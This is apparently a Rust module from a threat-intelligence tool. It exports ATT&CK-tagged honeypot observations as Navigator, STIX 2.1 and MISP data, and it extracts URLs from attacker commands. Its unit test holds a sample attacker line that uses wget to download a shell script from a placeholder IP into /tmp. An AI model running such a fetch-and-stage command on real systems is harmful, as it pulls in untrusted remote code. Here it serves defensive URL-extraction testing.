//! Exports of the tags for other tools: an ATT&CK Navigator layer, a STIX
//! 2.1 bundle and a MISP event. Built from the library's rollups and tag
//! lists, so every export counts what `ttp query` and `ttp serve` count, and
//! deterministic: the same data gives the same bytes.

pub mod misp;
pub mod navigator;
pub mod stix;

use serde_json::{json, Value};
use time::OffsetDateTime;
use uuid::Uuid;

/// DECNET's namespace for its STIX ids (org identity, threat actors), kept
/// so that DECNET's exports and ours name the same attacker the same way.
pub const DECNET_NAMESPACE: Uuid = uuid::uuid!("b5d2c3a1-8f4e-4d1b-9a6c-0e7f5b3d2c1a");
/// Our namespace for every other derived id.
pub const TTP_NAMESPACE: Uuid = uuid::uuid!("6f1d0c52-3c1e-4a8e-9a57-1c0c2a5b7e31");

/// A fixed `created`/`modified` for the producing organisation's identity,
/// so that it does not change from one export to the next.
const PRODUCER_SINCE: &str = "2026-01-01T00:00:00.000Z";

/// Who made the observations an export reports: DECNET's deployment (its
/// database) or a ttp-engine one (ours).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Producer {
    pub name: &'static str,
    id: String,
    description: &'static str,
}

impl Producer {
    /// DECNET's organisation identity, with DECNET's id.
    pub fn decnet() -> Producer {
        Producer {
            name: "DECNET",
            id: format!(
                "identity--{}",
                Uuid::new_v5(&DECNET_NAMESPACE, b"decnet-honeypot")
            ),
            description: "A DECNET honeypot deployment; ATT&CK techniques tagged by ttp-engine",
        }
    }

    /// A ttp-engine deployment on its own database.
    pub fn ttp_engine() -> Producer {
        Producer {
            name: "ttp-engine",
            id: format!("identity--{}", Uuid::new_v5(&TTP_NAMESPACE, b"ttp-engine")),
            description:
                "Honeypot and deception telemetry tagged with ATT&CK techniques by ttp-engine",
        }
    }

    /// The producer of the data in a database: DECNET's when it has
    /// DECNET's tables.
    pub fn for_database(decnet: bool) -> Producer {
        if decnet {
            Producer::decnet()
        } else {
            Producer::ttp_engine()
        }
    }

    pub fn id(&self) -> &str {
        &self.id
    }

    /// The STIX identity object.
    pub fn identity(&self) -> Value {
        json!({
            "type": "identity",
            "spec_version": "2.1",
            "id": self.id,
            "created": PRODUCER_SINCE,
            "modified": PRODUCER_SINCE,
            "name": self.name,
            "description": self.description,
            "identity_class": "organization",
        })
    }
}

/// An export as the CLI writes it and the API sends it: JSON indented by
/// two spaces, with a final newline.
pub fn to_text(v: &Value) -> String {
    // A `Value` always serialises: its keys are strings.
    let mut s = serde_json::to_string_pretty(v).unwrap_or_default();
    s.push('\n');
    s
}

/// A stored time (`2026-11-20 08:00:00.000000`, or RFC 3339) as a STIX
/// timestamp (`2026-11-20T08:00:00.000Z`); an unreadable one gives the
/// producer's fixed time rather than the clock, to stay deterministic.
pub fn stix_time(stored: &str) -> String {
    parse_stored(stored)
        .map(format_stix)
        .unwrap_or_else(|| PRODUCER_SINCE.to_string())
}

/// A stored time as a UTC instant: DECNET's naive text (with or without
/// microseconds, `T` or space) or RFC 3339.
pub(crate) fn parse_stored(stored: &str) -> Option<OffsetDateTime> {
    use time::format_description::well_known::Rfc3339;
    use time::macros::format_description;
    let v = stored.trim();
    if let Ok(t) = OffsetDateTime::parse(v, &Rfc3339) {
        return Some(t);
    }
    let space = format_description!(
        "[year]-[month]-[day] [hour]:[minute]:[second][optional [.[subsecond]]]"
    );
    let tee = format_description!(
        "[year]-[month]-[day]T[hour]:[minute]:[second][optional [.[subsecond]]]"
    );
    [space, tee]
        .iter()
        .find_map(|f| time::PrimitiveDateTime::parse(v, f).ok())
        .map(|t| t.assume_utc())
}

/// RFC 3339 in UTC with milliseconds.
pub(crate) fn format_stix(at: OffsetDateTime) -> String {
    let at = at.to_offset(time::UtcOffset::UTC);
    format!(
        "{:04}-{:02}-{:02}T{:02}:{:02}:{:02}.{:03}Z",
        at.year(),
        u8::from(at.month()),
        at.day(),
        at.hour(),
        at.minute(),
        at.second(),
        at.millisecond()
    )
}

/// The distinct URLs an attacker used, first seen first, at most 100: in
/// its command lines, then in its tags' evidence (oldest first).
pub(crate) fn actor_urls(a: &crate::query::Actor) -> Vec<String> {
    let texts = a
        .commands
        .iter()
        .cloned()
        .chain(a.tags.iter().rev().map(|t| t.evidence.to_string()));
    let mut urls: Vec<String> = Vec::new();
    for text in texts {
        for u in urls_in(&text) {
            if !urls.contains(&u) && urls.len() < 100 {
                urls.push(u);
            }
        }
    }
    urls
}

/// The http, https and ftp URLs in `text`, trailing punctuation trimmed.
pub fn urls_in(text: &str) -> Vec<String> {
    static URL: std::sync::OnceLock<Option<regex::Regex>> = std::sync::OnceLock::new();
    let Some(re) =
        URL.get_or_init(|| regex::Regex::new(r#"(?i)\b(?:https?|ftp)://[^\s'"<>`|;\\]+"#).ok())
    else {
        return Vec::new();
    };
    re.find_iter(text)
        .map(|m| {
            m.as_str()
                .trim_end_matches(['.', ',', ')', ']', '}'])
                .to_string()
        })
        .filter(|u| u.len() > "http://".len())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn decnets_org_identity_keeps_its_id() {
        assert_eq!(
            Producer::decnet().id(),
            "identity--ade09431-1861-567a-a60c-b19ee3d0d6a6"
        );
    }

    #[test]
    fn stored_times_become_stix_times() {
        assert_eq!(
            stix_time("2026-11-20 08:00:00.123456"),
            "2026-11-20T08:00:00.123Z"
        );
        assert_eq!(
            stix_time("2026-11-20T08:00:00Z"),
            "2026-11-20T08:00:00.000Z"
        );
        assert_eq!(stix_time(""), PRODUCER_SINCE);
        assert_eq!(stix_time("garbage"), PRODUCER_SINCE);
    }

    #[test]
    fn urls_are_found_in_command_lines() {
        assert_eq!(
            urls_in(
                "wget http://198.51.100.9/x.sh -O /tmp/x.sh; curl -s 'https://e.example/a?b=1'."
            ),
            vec!["http://198.51.100.9/x.sh", "https://e.example/a?b=1"]
        );
        assert!(urls_in("no url, http:// alone").is_empty());
    }
}
